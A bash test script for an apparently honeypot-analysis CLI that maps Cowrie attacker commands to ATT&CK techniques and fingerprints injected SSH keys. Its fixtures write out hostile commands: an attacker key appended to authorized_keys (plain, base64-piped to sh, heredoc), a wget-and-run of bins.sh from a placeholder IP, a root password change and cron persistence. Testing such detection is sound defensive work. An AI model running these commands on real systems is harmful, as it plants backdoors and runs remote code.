#!/usr/bin/env bash
# understand.sh — the understand stage through the CLI: `map` (text and JSON, shell input and
# Cowrie JSON lines, the mdrfckr key and its base64/heredoc variants, hostile bytes), `ingest`
# mapping new commands, `techniques`, `keys`, `explain`, `remap`, and the misuse messages and
# exit codes. The JSON output of `map` on a fixed set of lines is compared with
# tests/golden/expected/understand.map.jsonl (regenerate it with the command in that section,
# after checking the difference by eye).
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"

KEY='ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr'
SHA='SHA256:MkYY9qiVsFGBC5WkjoClCkwEFW5iSjcGQF7m4n4H7Cw'
MD5='MD5:13:47:1e:8f:5a:18:fc:8e:35:0a:51:cc:7d:b4:06:61'

# ---- map: the mdrfckr key, plain, base64-wrapped and in a here-document ----
plain="cd ~ && rm -rf .ssh && mkdir .ssh && echo \"$KEY\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~"
b64=$(printf 'mkdir -p ~/.ssh; echo "%s" >> ~/.ssh/authorized_keys' "$KEY" | base64 -w0)
wrapped="echo $b64 | base64 -d | sh"
heredoc="cat >> ~/.ssh/authorized_keys <<EOF"$'\n'"$KEY"$'\n'"EOF"
# map reads one input per line: give the heredoc as a Cowrie JSON line (its input holds newlines)
heredoc_json=$(printf '{"eventid":"cowrie.command.input","input":"%s","session":"0123456789ab","timestamp":"2024-03-01T10:00:00.000000Z","src_ip":"203.0.113.5","sensor":"s"}' \
    "$(printf '%s' "$heredoc" | sed 's/"/\\"/g' | awk 'BEGIN{ORS=""} NR>1{print "\\n"} {print}')")
for name in plain wrapped heredoc_json; do
    run "$AP" map --json <<<"${!name}"
    assert_eq "map $name: exit 0" 0 "$RC"
    assert_contains "map $name: key fingerprint" "$OUT" "\"sha256\":\"$SHA\""
    assert_contains "map $name: md5" "$OUT" "\"md5\":\"$MD5\""
    assert_contains "map $name: bits" "$OUT" '"bits":2048'
    assert_contains "map $name: comment" "$OUT" '"comment":"mdrfckr"'
    assert_contains "map $name: injected" "$OUT" '"injected":true'
    assert_contains "map $name: T1098.004" "$OUT" '"id":"T1098.004"'
done
if command -v ssh-keygen >/dev/null 2>&1; then
    printf '%s\n' "$KEY" >"$TMP/key.pub"
    assert_eq "ssh-keygen agrees (sha256)" "2048 $SHA mdrfckr (RSA)" "$(ssh-keygen -l -f "$TMP/key.pub")"
    assert_eq "ssh-keygen agrees (md5)" "2048 $MD5 mdrfckr (RSA)" "$(ssh-keygen -l -E md5 -f "$TMP/key.pub")"
fi
run "$AP" map --json <<<"$wrapped"
assert_contains "base64 | sh: decoded statements are children" "$OUT" '"via":2'
assert_contains "base64 | sh: deobfuscation" "$OUT" '"id":"T1140"'

# ---- map: text form, statements and offsets ----
assert_exit "map text" 0 "$AP" map <<<'cd ~; chattr -ia .ssh; lockr -ia .ssh'
assert_contains "map text: second statement with offsets" "$OUT" "[2] 6-21 chattr -ia .ssh"
assert_contains "map text: file permissions" "$OUT" "T1222.002"
assert_not_contains "map text: lockr is not lateral movement" "$OUT" "lateral-movement"

# ---- map: hostile bytes never reach the terminal raw; JSON stays valid ----
printf 'echo \033[31mred\033]0;title\007 ; wget http://203.0.113.9/x\n' >"$TMP/hostile.txt"
run "$AP" map <"$TMP/hostile.txt"
assert_eq "map hostile: exit 0" 0 "$RC"
assert_not_contains "map hostile: no raw ESC" "$OUT" $'\033'
assert_not_contains "map hostile: no raw BEL" "$OUT" $'\007'
assert_contains "map hostile: escaped" "$OUT" '\x1b'
run "$AP" map --json <"$TMP/hostile.txt"
assert_contains "map hostile json: escaped" "$OUT" '\u001b'
assert_contains "map hostile json: url ioc" "$OUT" '{"type":"url","value":"http://203.0.113.9/x"}'

# ---- map: Cowrie JSON lines — commands mapped, other events skipped, bad lines reported ----
{
    printf '%s\n' '{"eventid":"cowrie.session.connect","session":"0123456789ab","timestamp":"2024-03-01T10:00:00.000000Z","src_ip":"203.0.113.5","sensor":"s"}'
    printf '%s\n' '{"eventid":"cowrie.command.input","input":"uname -a","session":"0123456789ab","timestamp":"2024-03-01T10:00:01.000000Z","src_ip":"203.0.113.5","sensor":"s"}'
    printf '%s\n' '{"eventid": broken'
} >"$TMP/cowrie.json"
run "$AP" map --json <"$TMP/cowrie.json"
assert_eq "map cowrie: exit 0" 0 "$RC"
assert_eq "map cowrie: one mapped line (line 2)" 1 "$(grep -c '^{"line":2,' <<<"$OUT")"
assert_contains "map cowrie: T1082" "$OUT" '"id":"T1082"'
assert_contains "map cowrie: bad line reported" "$ERR" "<stdin>:3: warning: not a Cowrie JSON event"

# ---- map: golden output on fixed lines ----
cat >"$TMP/lines.txt" <<'EOF'
cat /proc/cpuinfo | grep name | wc -l
cd /tmp || cd /var/run || cd /mnt; wget http://203.0.113.10/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh
/bin/busybox ECCHI
echo "root:Xy7pQ2sw"|chpasswd|bash
crontab -l; (crontab -l; echo "* * * * * /tmp/.x/upd >/dev/null 2>&1") | crontab -
uname -a; nproc; free -m; w; history -c
ls -la
EOF
run "$AP" map --json <"$TMP/lines.txt"
assert_eq "map lines: exit 0" 0 "$RC"
printf '%s' "$OUT" >"$TMP/map.jsonl"
# regenerate: build/actorprint map --json < (the lines above) > tests/golden/expected/understand.map.jsonl
assert_files_eq "map --json golden" "$AP_SRC/tests/golden/expected/understand.map.jsonl" "$TMP/map.jsonl"

# ---- misuse ----
assert_exit "map: no operands" 2 "$AP" map extra
assert_contains "map: no operands message" "$ERR" "unexpected argument 'extra'"
assert_exit "map: missing rules file" 1 "$AP" map --rules "$TMP/nope.rules" </dev/null
assert_contains "map: missing rules file message" "$ERR" "cannot load the ATT&CK rules"
printf 'rule bad.one\n  technique T9999.999\n  reason nope\n  cmd x\n  example x\n  counter y\n' >"$TMP/bad.rules"
assert_exit "map: rules naming an unknown technique" 1 "$AP" map --rules "$TMP/bad.rules" </dev/null
assert_contains "map: unknown technique reported with file:line" "$ERR" "bad.rules:2:"
assert_exit "explain: no session" 2 "$AP" explain

# ---- ingest maps; techniques, keys, explain, remap ----
SIM=$TMP/sim
assert_exit "simulate" 0 "$AP" simulate --out "$SIM" --days 2 --seed 5
assert_exit "ingest" 0 "$AP" ingest --db "$TMP/a.db" "$SIM"
assert_match "ingest: mapping summary" "$ERR" 'mapped [0-9,]+ new command texts \(rules changed: everything remapped\); [0-9,]+ SSH keys in commands'
assert_exit "ingest again" 0 "$AP" ingest --db "$TMP/a.db" "$SIM"
assert_contains "ingest again: nothing new to map" "$ERR" "mapped 0 new command texts;"
assert_exit "techniques --json" 0 "$AP" techniques --db "$TMP/a.db" --json
for t in T1098.004 T1082 T1105 T1078 T1090; do
    assert_contains "techniques: $t seen in the simulated week" "$OUT" "\"id\":\"$t\""
done
assert_match "techniques: a brute-force sub-technique" "$OUT" '"id":"T1110\.00[134]"'
assert_exit "techniques text" 0 "$AP" techniques --db "$TMP/a.db"
assert_contains "techniques text: tactic table" "$OUT" "TA0003   Persistence"
assert_exit "keys --json" 0 "$AP" keys --db "$TMP/a.db" --json
assert_match "keys: an injected 2048-bit RSA key" "$OUT" '"source":"command","type":"ssh-rsa","bits":2048,"sha256":"SHA256:[A-Za-z0-9+/]{43}"'
assert_contains "keys: injected" "$OUT" '"injected":true'
assert_contains "keys: client keys too" "$OUT" '"source":"client"'
sid=$(sqlite3 "$TMP/a.db" "SELECT s.session FROM commands c JOIN sessions s ON s.id = c.session_id JOIN strings i ON i.id = c.input_id WHERE i.s LIKE '%authorized_keys%' LIMIT 1" 2>/dev/null || true)
if [ -n "$sid" ]; then
    assert_exit "explain" 0 "$AP" explain --db "$TMP/a.db" "$sid"
    assert_contains "explain: the technique and why" "$OUT" "why T1098.004"
    assert_contains "explain: event techniques" "$OUT" "events:"
    assert_exit "explain --json" 0 "$AP" explain --db "$TMP/a.db" --json "$sid"
    assert_contains "explain --json: session" "$OUT" "\"session\":\"$sid\""
fi
assert_exit "explain: unknown session" 1 "$AP" explain --db "$TMP/a.db" nosuchsession
assert_contains "explain: unknown session message" "$ERR" "no session 'nosuchsession'"
assert_exit "remap" 0 "$AP" remap --db "$TMP/a.db"
assert_match "remap: summary" "$ERR" '^mapped [0-9,]+ command texts'
assert_exit "ingest --no-map" 0 "$AP" ingest --no-map --db "$TMP/b.db" "$SIM"
assert_not_contains "ingest --no-map: no mapping" "$ERR" "mapped"
assert_exit "techniques of an unmapped store" 0 "$AP" techniques --db "$TMP/b.db" --json
assert_contains "techniques of an unmapped store: empty" "$OUT" '"techniques":[]'
finish
